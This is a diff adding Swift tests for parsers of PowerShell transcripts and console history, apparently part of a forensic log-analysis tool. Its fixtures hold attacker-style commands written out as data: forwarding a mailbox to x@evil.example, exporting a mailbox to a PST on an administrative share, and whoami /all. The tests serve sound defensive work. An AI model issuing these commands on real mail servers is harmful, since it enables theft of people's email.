@@ -48,6 +48,70 @@ struct PowerShellTests {
     #expect(reading.records[3].cmdlet == nil && reading.records[3].target == nil)
   }
 
+  @Test("a command entered in several lines is one, in a transcript and in a history")
+  func severalLines() async throws {
+    let transcript = Self.transcript.replacing(
+      "PS C:\\> dir", with: "PS C:\\> Set-Mailbox ann `\n>> -ForwardingSmtpAddress x@evil.example\nText of the answer")
+    let reading = try await Reading.of(transcript, by: PowerShellTranscriptReader.self)
+    #expect(
+      reading.records.map(\.operation) == ["New-MailboxExportRequest", "Get-Mailbox", "Set-Mailbox", "Set-Mailbox"])
+    let entered = try #require(reading.records.last)
+    #expect(entered.cmdlet?.parameters.map(\.name) == ["Identity", "ForwardingSmtpAddress"])
+    let place = Int(entered.location.offset)..<Int(entered.location.offset + entered.location.length)
+    #expect(String(decoding: Array(transcript.utf8)[place], as: UTF8.self).hasSuffix("x@evil.example"))
+    let history =
+      "Get-Mailbox\nNew-MailboxExportRequest -Mailbox ann `\n-FilePath '\\\\ex01\\c$\\a.pst' `\n-Name x\ndir\n"
+    #expect(reader(for: Opening(Array(history.utf8), isWhole: true))?.kind == "powershell_history")
+    let entries = try await Reading.of(history, by: ConsoleHistoryReader.self).records
+    #expect(entries.map(\.operation) == ["Get-Mailbox", "New-MailboxExportRequest", "dir"])
+    #expect(
+      entries[1].cmdlet?.parameters.map { "\($0.name)=\($0.value ?? "")" }
+        == ["Mailbox=ann", "FilePath=\\\\ex01\\c$\\a.pst", "Name=x"])
+    #expect(entries.map(\.location.line) == [1, 2, 5])
+  }
+
+  @Test("a transcript in the language of its Windows, of another machine, and of a program without a prompt")
+  func otherTranscripts() async throws {
+    let german = """
+      **********************
+      Start der Windows PowerShell-Aufzeichnung
+      Startzeit: 20210302080504
+      Benutzername: CORP\\eva
+      RunAs-Benutzer: CORP\\eva
+      Konfigurationsname: \n\
+      Computer: EX01 (Microsoft Windows NT 10.0.17763.0)
+      Hostanwendung: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe
+      Prozess-ID: 4711
+      PSVersion: 5.1.17763.1
+      **********************
+      **********************
+      Befehlsstartzeit: 20210302080600
+      **********************
+      [ex02.corp.example]: PS C:\\Users\\eva\\Documents> Get-Mailbox ann
+      Startzeit: 20300101000000
+      **********************
+      Befehlsstartzeit: 20210302080700
+      **********************
+      PS>CommandInvocation(Set-Mailbox): "Set-Mailbox"
+      >> ParameterBinding(Set-Mailbox): name="Identity"; value="ann"
+      >> ParameterBinding(Set-Mailbox): name="ForwardingSmtpAddress"; value="x@evil.example"
+      PS>TerminatingError(Set-Mailbox): "denied"
+      PS>whoami /all
+
+      """
+    #expect(reader(for: Opening(Array(german.utf8), isWhole: true))?.kind == "powershell_transcript")
+    let records = try await Reading.of(german, by: PowerShellTranscriptReader.self).records
+    #expect(records.map(\.operation) == ["Get-Mailbox", "Set-Mailbox", "whoami"])
+    #expect(records.allSatisfy { $0.actor == "CORP\\eva" && $0.server == "EX01" })
+    #expect(
+      records.map(\.occurredAt) == [
+        microseconds("2021-03-02T08:06:00Z"), microseconds("2021-03-02T08:07:00Z"),
+        microseconds("2021-03-02T08:07:00Z"),
+      ])
+    #expect(records[1].cmdlet?.parameters.map(\.value) == ["ann", "x@evil.example"])
+    #expect(records[2].target == "/all")
+  }
+
   @Test(
     "a program that is no cmdlet is a record too, with what it was given as entered",
     arguments: [
